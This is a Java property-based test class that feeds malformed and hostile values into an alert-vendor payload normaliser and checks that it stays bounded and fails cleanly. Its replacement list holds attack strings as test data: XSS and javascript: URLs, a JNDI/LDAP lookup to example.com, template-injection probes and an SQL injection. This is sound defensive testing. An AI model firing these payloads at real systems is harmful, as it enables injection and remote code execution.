package dev.serai.alert.vendor;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.fail;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.serai.alert.Alert;
import dev.serai.alert.DeliveryRefusal;
import dev.serai.alert.Limits;
import dev.serai.alert.Normalised;
import dev.serai.alert.vendor.Samples.Sample;
import java.util.ArrayList;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Whatever stands in whichever member of a payload: it is read, or told apart from what is read, and nothing else happens. The
 * hub's own test has the same over HTTP.
 */
class HostilePayloadsTest {

    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;

    static List<Sample> samples() {
        return Samples.all();
    }

    @ParameterizedTest
    @MethodSource("samples")
    void each_member_may_be_missing_or_anything_else(Sample sample) {
        int paths = paths(sample.body(), "").size();
        assertThat(paths).isPositive();
        for (int path = 0; path < paths; path++) {
            for (JsonNode instead : replacements()) {
                JsonNode changed = sample.body().deepCopy();
                String where = paths(changed, "").get(path);
                changed = replaced(changed, where, instead);
                check(sample, changed, where);
            }
            JsonNode changed = sample.body().deepCopy();
            String where = paths(changed, "").get(path);
            remove(changed, where);
            check(sample, changed, where + " removed");
        }
    }

    @ParameterizedTest
    @MethodSource("samples")
    void the_whole_may_be_anything(Sample sample) {
        replacements().forEach(instead -> check(sample, instead, "the whole"));
        check(sample, JSON.objectNode(), "an empty object");
    }

    @Property(tries = 500)
    void several_members_may_be_wrong_at_once(
            @ForAll("sample") Sample sample, @ForAll("replacement") List<JsonNode> instead, @ForAll int seed) {
        JsonNode changed = sample.body().deepCopy();
        int at = seed;
        for (JsonNode one : instead.subList(0, Math.min(5, instead.size()))) {
            List<String> paths = paths(changed, "");
            if (!paths.isEmpty()) {
                changed = replaced(changed, paths.get(Math.floorMod(at, paths.size())), one);
                at = at * 31 + 7;
            }
        }
        check(sample, changed, "several");
    }

    @Property(tries = 300)
    void the_same_payload_is_read_the_same_way(@ForAll("sample") Sample sample) {
        assertThat(VendorSamplesTest.text(sample.normalise()))
                .isEqualTo(VendorSamplesTest.text(sample.normalise(sample.body().deepCopy())));
    }

    @Provide
    Arbitrary<Sample> sample() {
        return Arbitraries.of(samples());
    }

    @Provide
    Arbitrary<List<JsonNode>> replacement() {
        return Arbitraries.of(replacements()).list().ofMinSize(1).ofMaxSize(5);
    }

    private static void check(Sample sample, JsonNode changed, String where) {
        try {
            Normalised read = sample.normalise(changed);
            read.alerts().forEach(alert -> bounded(alert));
            read.rejected().forEach(one -> assertThat(one.reason()).isNotBlank().hasSizeLessThan(1_000));
        } catch (DeliveryRefusal refusal) {
            assertThat(refusal.detail()).isNotBlank();
        } catch (RuntimeException e) {
            fail(sample + ", " + where, e);
        }
    }

    private static void bounded(Alert alert) {
        assertThat(alert.fingerprint()).isNotBlank().hasSizeLessThanOrEqualTo(256);
        assertThat(alert.title()).isNotBlank().hasSizeLessThanOrEqualTo(Limits.VALUE_CHARACTERS);
        assertThat(alert.labels()).hasSizeLessThanOrEqualTo(Limits.LABELS);
        alert.labels().forEach((name, value) -> {
            assertThat(name).isNotBlank().hasSizeLessThanOrEqualTo(Limits.KEY_CHARACTERS);
            assertThat(value).hasSizeLessThanOrEqualTo(Limits.VALUE_CHARACTERS).doesNotContain("\0");
        });
        alert.annotations()
                .forEach((name, value) -> assertThat(value).hasSizeLessThanOrEqualTo(Limits.VALUE_CHARACTERS));
        assertThat(alert.content().links()).hasSizeLessThanOrEqualTo(16);
    }

    static List<JsonNode> replacements() {
        ObjectNode deep = JSON.objectNode();
        ObjectNode inner = deep;
        for (int i = 0; i < 90; i++) {
            inner = inner.putObject("a");
        }
        ArrayNode many = JSON.arrayNode();
        for (int i = 0; i < 6_000; i++) {
            many.add(i);
        }
        ObjectNode wide = JSON.objectNode();
        for (int i = 0; i < 200; i++) {
            wide.put("k" + i, i % 2 == 0 ? "v" : "<b>");
        }
        return List.of(
                JSON.nullNode(),
                JSON.booleanNode(true),
                JSON.numberNode(-1),
                JSON.numberNode(Long.MAX_VALUE),
                JSON.numberNode(1e300),
                JSON.textNode(""),
                JSON.textNode(" \t\n"),
                JSON.textNode("\0"),
                JSON.textNode("\ud800"),
                JSON.textNode("x".repeat(100_000)),
                JSON.textNode("<script>alert(1)</script>"),
                JSON.textNode("${jndi:ldap://example.com/a} {{7*7}} #{1}"),
                JSON.textNode("'; drop table alert; --"),
                JSON.textNode("\u202e\u0000\u200b"),
                JSON.textNode("9999-99-99T99:99:99Z"),
                JSON.textNode("-9999999999999999999999"),
                JSON.textNode("javascript:alert(1)"),
                JSON.arrayNode(),
                many,
                JSON.objectNode(),
                wide,
                deep);
    }

    private static List<String> paths(JsonNode node, String at) {
        List<String> paths = new ArrayList<>();
        if (node.isObject()) {
            node.fieldNames().forEachRemaining(name -> {
                String path = at + "/" + name.replace("~", "~0").replace("/", "~1");
                paths.add(path);
                paths.addAll(paths(node.get(name), path));
            });
        } else if (node.isArray()) {
            for (int i = 0; i < Math.min(node.size(), 3); i++) {
                paths.add(at + "/" + i);
                paths.addAll(paths(node.get(i), at + "/" + i));
            }
        }
        return paths;
    }

    private static JsonNode replaced(JsonNode root, String path, JsonNode instead) {
        JsonNode parent = root.at(path.substring(0, path.lastIndexOf('/')));
        String name =
                path.substring(path.lastIndexOf('/') + 1).replace("~1", "/").replace("~0", "~");
        if (parent instanceof ObjectNode object) {
            object.set(name, instead.deepCopy());
        } else {
            ((ArrayNode) parent).set(Integer.parseInt(name), instead.deepCopy());
        }
        return root;
    }

    private static void remove(JsonNode root, String path) {
        JsonNode parent = root.at(path.substring(0, path.lastIndexOf('/')));
        String name =
                path.substring(path.lastIndexOf('/') + 1).replace("~1", "/").replace("~0", "~");
        if (parent instanceof ObjectNode object) {
            object.remove(name);
        } else {
            ((ArrayNode) parent).remove(Integer.parseInt(name));
        }
    }
}
